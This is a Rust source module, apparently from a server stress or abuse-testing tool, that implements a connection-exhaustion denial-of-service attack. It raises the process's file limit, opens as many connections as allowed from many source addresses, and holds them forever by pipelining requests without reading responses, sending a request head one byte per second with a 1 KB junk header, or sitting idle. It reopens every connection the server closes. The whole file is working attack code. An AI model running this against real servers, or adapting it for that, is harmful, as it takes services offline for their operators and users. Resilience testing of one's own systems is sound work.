//! Connections: thousands that pipeline requests and never read a response, send their head a byte a
//! second, or stay idle.
//!
//! As many as the system lets this process open; what the server closes is opened again.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::AsyncWriteExt as _;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::{RETRY, all};
use crate::abuse::counts::Counters;
use crate::abuse::http::{Connection, Draft, Lost, PATIENCE};
use crate::abuse::plan::Plan;
use crate::abuse::target::Target;

/// Requests that are written at once.
const PIPELINED: usize = 64;
/// One of so many connections requests something large.
const DEAR: u64 = 16;
/// How often a connection that does not read writes more.
const EVERY: Duration = Duration::from_secs(1);
/// How long a write may take that the server does not take.
const WRITE_WITHIN: Duration = Duration::from_millis(500);
/// Connections that are being opened at once: the system's queue is not longer.
const OPENING: usize = 256;
/// Bytes of the socket's buffer: small, so that the server's are full soon.
const RECEIVE_BUFFER: u32 = 4096;
/// File descriptors for everything else in this process.
const SPARE: u64 = 200;

pub(super) async fn run(
    target: &Target,
    plan: &Plan,
    counters: &Counters,
    addresses: impl Iterator<Item = Ipv4Addr>,
) -> anyhow::Result<()> {
    let connections = (plan.connections as u64).min(raised_limit()?.saturating_sub(SPARE));
    let opening = Arc::new(Semaphore::new(OPENING));
    let mut tasks = JoinSet::new();
    for (number, from) in (0..connections).zip(addresses) {
        let client = Client { from, target: target.clone(), counters: counters.clone() };
        tasks.spawn(client.hold(number, Arc::clone(&opening)));
    }
    all(tasks).await
}

/// Raises the number of files that this process may open as far as it may; returns it.
fn raised_limit() -> anyhow::Result<u64> {
    let Rlimit { maximum, .. } = getrlimit(Resource::Nofile);
    setrlimit(Resource::Nofile, Rlimit { current: maximum, maximum })?;
    Ok(maximum.unwrap_or(u64::MAX))
}

struct Client {
    from: Ipv4Addr,
    target: Target,
    counters: Counters,
}

impl Client {
    /// Keeps one connection open in one of three ways, for ever.
    async fn hold(self, number: u64, opening: Arc<Semaphore>) -> anyhow::Result<()> {
        loop {
            let permit = opening.acquire().await?;
            let opened = Connection::open_with(self.from, self.target.address, |socket| {
                socket.set_recv_buffer_size(RECEIVE_BUFFER)
            });
            let opened = opened.await;
            drop(permit);
            let Ok(mut connection) = opened else {
                sleep(RETRY).await;
                continue;
            };
            self.counters.connection(1, 0);
            match number % 8 {
                0 => self.dribble_head(&mut connection).await,
                1 => self.stay_idle(&mut connection).await,
                _ => self.never_read(&mut connection, number).await,
            }
            self.counters.connection(0, 1);
            sleep(RETRY).await;
        }
    }

    /// Writes requests without reading a response, until the server closes the connection.
    async fn never_read(&self, connection: &mut Connection, number: u64) {
        let path = if number % DEAR == 2 { "/openapi.json" } else { "/v1/a.js" };
        let requests = Draft::get(path).bytes(self.target.address).repeat(PIPELINED);
        self.counters.sent(PIPELINED as u64);
        let mut left = &requests[..];
        loop {
            match timeout(WRITE_WITHIN, connection.stream.write(left)).await {
                Ok(Ok(0) | Err(_)) => return,
                Ok(Ok(written)) => left = &left[written..],
                Err(_) => sleep(EVERY).await,
            }
            if left.is_empty() {
                left = &requests;
                self.counters.sent(PIPELINED as u64);
                sleep(EVERY).await;
            }
        }
    }

    /// Sends the head of a request byte by byte.
    async fn dribble_head(&self, connection: &mut Connection) {
        self.counters.sent(1);
        let head = Draft::get("/").header("x-slow", "y".repeat(1024)).bytes(self.target.address);
        for byte in head {
            match connection.exchange(&[byte], false, EVERY).await {
                Err(Lost::Late(_)) => {}
                _ => return,
            }
        }
    }

    /// Makes one request, then nothing.
    async fn stay_idle(&self, connection: &mut Connection) {
        let request = Draft::get("/healthz").bytes(self.target.address);
        match connection.exchange(&request, false, PATIENCE).await {
            Ok((response, waited)) => self.counters.response(&response, waited, || "/healthz".to_owned()),
            Err(lost) => return self.counters.lost(&lost),
        }
        // Returns once the server closes it.
        let _ = connection.exchange(&[], false, Duration::from_hours(1)).await;
    }
}
